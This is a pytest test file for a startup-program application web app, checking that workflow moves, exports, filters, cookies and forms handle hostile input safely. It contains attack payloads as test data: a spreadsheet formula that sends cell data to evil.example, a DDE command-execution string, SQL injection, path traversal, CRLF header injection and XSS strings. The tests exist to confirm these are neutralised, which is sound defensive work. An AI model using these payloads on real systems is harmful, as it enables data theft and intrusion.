async def test_a_manager_cannot_make_moves_the_workflow_table_forbids(client: AsyncClient, setup: str, to: str, status: int) -> None:
    program = await create_program()
    made = await create_application(program)
    app_id = made["application"]["id"]
    if setup == "submitted":
        await ApplicationService().submit(app_id, made["viewer"])
    await as_manager(client)
    if status == 403 and workflow.transition(setup, to) is None:
        status = 409  # no such move from this status for anyone: a state conflict, not a permission
    response = await api_call(client, "POST", f"{APPLICATIONS}/{app_id}/transition", {"to": to, "reason": "r"})
    assert response.status_code == status, response.text
    page = await post_form(client, f"/staff/applications/{app_id}/status", {"to": to, "reason": "r"})
    assert page.status_code in (403, 409, 422), page.status_code
    assert (await stored(app_id))["status"] == setup


async def test_screening_moves_with_junk_revision_and_fields_do_not_crash(client: AsyncClient) -> None:
    """``revision=²`` passed ``str.isdigit()`` and then ``int()`` raised ValueError: 500."""
    program = await create_program()
    made = await create_application(program)
    app_id = made["application"]["id"]
    await ApplicationService().submit(app_id, made["viewer"])
    await as_manager(client)
    for data in (
        {"to": "screening", "revision": "²"}, {"to": "screening", "revision": BIG}, {"to": "screening", "revision": "-1"},
        {"to": "more_info_requested", "reason": "r", "fields": "nope"},
        {"to": "ineligible", "reason": "r", "fields": "x" * 5000},
        {"to": "more_info_requested", "reason": "r" * 6000, "fields": "summary"},
    ):
        response = await post_form(client, f"/staff/applications/{app_id}/status", data)
        assert response.status_code < 500, (data, response.status_code)
    for body in ({"to": "screening", "revision": 2**40}, {"to": "screening", "fields": "summary"}, {"to": "screening", "fields": [1]},
                 {"to": ["screening"]}, {"to": "screening", "reason": 5}, {"to": "screening", "junk": 1}):
        response = await api_call(client, "POST", f"{APPLICATIONS}/{app_id}/transition", body)
        assert response.status_code == 422, (body, response.status_code)


# -- exports -----------------------------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


async def test_exports_neutralise_formulas_in_answers_names_and_file_names(client: AsyncClient) -> None:
    program = await create_program(title_en="=cmd|' /C calc'!A0")
    rows = []
    for index, formula in enumerate(FORMULAS):
        startup = await create_startup(name_en=formula, name_ko=formula)
        rows.append(await create_application(program, startup, answers={"summary": formula[:100], "team": 3, "plan": formula}))
    await login(client, rows[0]["viewer"])
    await upload(client, rows[0]["application"]["id"], "deck", "=HYPERLINK(x).pdf", PDF)
    await as_manager(client)
    response = await client.get(f"/staff/programs/{program['id']}/applications/export.csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    assert "cmd" not in response.headers["content-disposition"]
    response = await client.get(f"/staff/programs/{program['id']}/applications/export.xlsx")
    assert response.status_code == 200, response.status_code
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell.value


@pytest.mark.parametrize(
    "query",
    [
        "status=bogus", "status=" + "x" * 5000, "sort=bogus", "sort=id;DROP TABLE application", "submitted_from=2026-02-30",
        "submitted_from=0001-01-01", "submitted_to=9999-12-31", "submitted_from=9999-12-31", "submitted_to=0001-01-01",
        "extension=maybe", "page=-1", f"page={BIG}", "page=abc", "page=1e3", "page=²", "sector=../../x", "stage=%27%22",
        "q=" + "%25" * 300, "q=%27%3B--", "q=a%00b",
    ],
)
async def test_junk_filters_in_list_and_export_urls_are_not_500(client: AsyncClient, query: str) -> None:
    program = await create_program()
    await create_application(program)
    await as_manager(client)
    base = f"/staff/programs/{program['id']}/applications"
    for url in (f"{base}?{query}", f"{base}/export.csv?{query}", f"{base}/export.xlsx?{query}"):
        response = await client.get(url)
        assert response.status_code < 500, (url, response.status_code)


# -- time zone cookie ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value",
    ["../../etc/passwd", "..%2F..%2Fetc", "Asia", "America", "Asia%2FSeoul%0D%0ASet-Cookie%3A%20x%3D1", "A" * 5000,
     "%00", "Asia/Seoul/", "/etc/localtime", "__pycache__"],
)
async def test_junk_time_zone_cookies_are_ignored(client: AsyncClient, value: str) -> None:
    """``tz=Asia`` (a directory of the zone database) or a 5 KB name made ZoneInfo raise
    IsADirectoryError / OSError (File name too long): 500 on every page showing a deadline."""
    program = await create_program()
    made = await create_application(program)
    await login(client, made["viewer"])
    client.cookies.set("tz", value, domain="testserver.local")
    try:
        for url in ("/calls/", f"/calls/{program['id']}", f"/calls/{program['id']}/apply", "/applications/",
                    f"/applications/{made['application']['id']}"):
            response = await client.get(url)
            assert response.status_code == 200, (url, response.status_code)
            assert "set-cookie: x" not in str(response.headers).lower()
        response = await post_form(client, f"/applications/{made['application']['id']}/autosave",
                                   {"revision": str(made["application"]["revision"]), "q-summary": "ok"}, htmx=True)
        assert response.status_code == 200, response.status_code
    finally:
        client.cookies.delete("tz", domain="testserver.local")


# -- stored XSS ------------------------------------------------------------------------------------------
async def test_markup_in_every_shown_text_is_escaped(client: AsyncClient) -> None:
    form = [
        {"key": "summary", "type": "text", "label_en": f"Label {XSS}", "label_ko": f"라벨 {XSS}", "help_en": f"Help {IMG}", "required": True},
        {"key": "track", "type": "single_choice", "label_en": "Track",
         "choices": [{"value": "ai", "label_en": f"Choice {XSS}", "label_ko": f"선택 {XSS}"}, {"value": "x\"><svg onload=alert(3)>", "label_en": "Q"}]},
    ]
    manager = await staff_viewer()
    program = await create_program(manager, form=form, title_en=f"Title {XSS}", title_ko=f"제목 {XSS}", summary_en=f"Summary {IMG}",
                                   description_en=f"Description {XSS}")
    made = await create_application(program, answers={"summary": f"Answer {XSS}", "track": 'x"><svg onload=alert(3)>'})
    app_id = made["application"]["id"]
    await login(client, made["viewer"])
    question = await post_form(client, f"/calls/{program['id']}/questions", {"question": f"Question {XSS}"})
    assert question.status_code == 303
    await api_call(client, "POST", f"{APPLICATIONS}/{app_id}/submit", {})
    await login(client, manager)
    notice = await post_form(client, f"/staff/programs/{program['id']}/notices",
                             {"title_en": f"Notice {XSS}", "body_en": f"Body {IMG}"})
    assert notice.status_code == 303
    question_id = (await ProgramQuestion.select().first().run())["id"]
    answered = await post_form(client, f"/staff/programs/{program['id']}/questions/{question_id}/answer",
                               {"answer_en": f"Answer {XSS}", "publish": "on"})
    assert answered.status_code == 303
    moved = await post_form(client, f"/staff/applications/{app_id}/status", {"to": "screening"})
    assert moved.status_code == 303
    moved = await post_form(client, f"/staff/applications/{app_id}/status",
                            {"to": "more_info_requested", "reason": f"Reason {XSS}", "fields": "summary"})
    assert moved.status_code == 303
    pid = program["id"]
    staff_pages = [f"/staff/programs/{pid}", f"/staff/programs/{pid}/form", f"/staff/programs/{pid}/notices",
                   f"/staff/programs/{pid}/questions", f"/staff/programs/{pid}/applications", f"/staff/applications/{app_id}",
                   "/staff/programs/"]
    for url in staff_pages:
        response = await client.get(url)
        assert response.status_code == 200, url
        assert "<script>alert" not in response.text and "<img src=x" not in response.text and "<svg onload" not in response.text, url
    await login(client, made["viewer"])
    for url in ("/calls/", f"/calls/{pid}", f"/calls/{pid}/apply", "/applications/", f"/applications/{app_id}",
                f"/applications/{app_id}/withdraw"):
        response = await client.get(url)
        assert response.status_code == 200, url
        assert "<script>alert" not in response.text and "<img src=x" not in response.text and "<svg onload" not in response.text, url


# -- notices, questions and answers ------------------------------------------------------------------
@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"title_en": "t", "body_en": "b" * 100_001}, "body"),
        ({"title_en": "t\x00", "body_en": "b"}, "title"),
        ({"title_en": "t", "body_en": "b\x00"}, "body"),
        ({"title_en": "t" * 201, "body_en": "b"}, "title"),
        ({"title_en": "", "body_en": "b"}, "title"),
    ],
)
async def test_bad_notices_are_named_and_not_published(client: AsyncClient, data: dict[str, str], field: str) -> None:
    manager = await as_manager(client)
    program = await create_program(manager)
    response = await post_form(client, f"/staff/programs/{program['id']}/notices", data)
    assert response.status_code == 422, response.status_code
    assert await ProgramNotice.count() == 0


@pytest.mark.parametrize("question", ["q" * 2001, "a\x00b", "   ", ""])
async def test_bad_questions_are_refused_with_the_text_kept(client: AsyncClient, question: str) -> None:
    program = await create_program()
    startup = await create_startup()
    await login(client, startup["owner"])
    response = await post_form(client, f"/calls/{program['id']}/questions", {"question": question})
    assert response.status_code == 422, response.status_code
    assert await ProgramQuestion.count() == 0


@pytest.mark.parametrize("answer", ["a" * 20_001, "a\x00b"])
async def test_bad_answers_to_questions_are_refused(client: AsyncClient, answer: str) -> None:
    manager = await staff_viewer()
    program = await create_program(manager)
    startup = await create_startup()
    await login(client, startup["owner"])
    await post_form(client, f"/calls/{program['id']}/questions", {"question": "When?"})
    question_id = (await ProgramQuestion.select().first().run())["id"]
    await login(client, manager)
    response = await post_form(client, f"/staff/programs/{program['id']}/questions/{question_id}/answer", {"answer_en": answer, "publish": "on"})
    assert response.status_code == 422, response.status_code
    row = await ProgramQuestion.select().first().run()
    assert row["answer_en"] == "" and row["published_at"] is None


@pytest.mark.parametrize("reason", ["r" * 2001, "a\x00b"])
async def test_bad_withdrawal_reasons_are_refused_and_the_application_stays(client: AsyncClient, reason: str) -> None:
    program = await create_program()
    made = await create_application(program)
    await login(client, made["viewer"])
    response = await post_form(client, f"/applications/{made['application']['id']}/withdraw", {"confirm": "yes", "reason": reason})
    assert response.status_code == 422, response.status_code
    assert (await stored(made["application"]["id"]))["status"] == "draft"


async def test_api_bodies_of_the_wrong_shape_are_422(client: AsyncClient) -> None:
    program = await create_program()
    made = await create_application(program)
    app_id = made["application"]["id"]
    await login(client, made["viewer"])
    for method, url, body in (
        ("PATCH", f"{APPLICATIONS}/{app_id}", [1, 2]),
        ("PATCH", f"{APPLICATIONS}/{app_id}", {"revision": 2, "answers": [1]}),
        ("PATCH", f"{APPLICATIONS}/{app_id}", {"revision": "2", "answers": {}}),
        ("PATCH", f"{APPLICATIONS}/{app_id}", {"revision": 2}),
        ("POST", f"{APPLICATIONS}/{app_id}/submit", {"revision": 2**40}),
        ("POST", f"{APPLICATIONS}/{app_id}/withdraw", {"reason": ["x"]}),
        ("POST", f"{APPLICATIONS}/{app_id}/withdraw", {"reason": "r" * 5001}),
        ("POST", f"{APPLICATIONS}/{app_id}/withdraw", {"reason": "a\x00b"}),
        ("POST", APPLICATIONS, "program"),
    ):
        response = await api_call(client, method, url, body)
        assert response.status_code in (400, 422), (url, body, response.status_code)
    after = await stored(app_id)
    assert after["status"] == "draft" and after["answers"] == made["application"]["answers"]
    json.dumps(after["answers"])
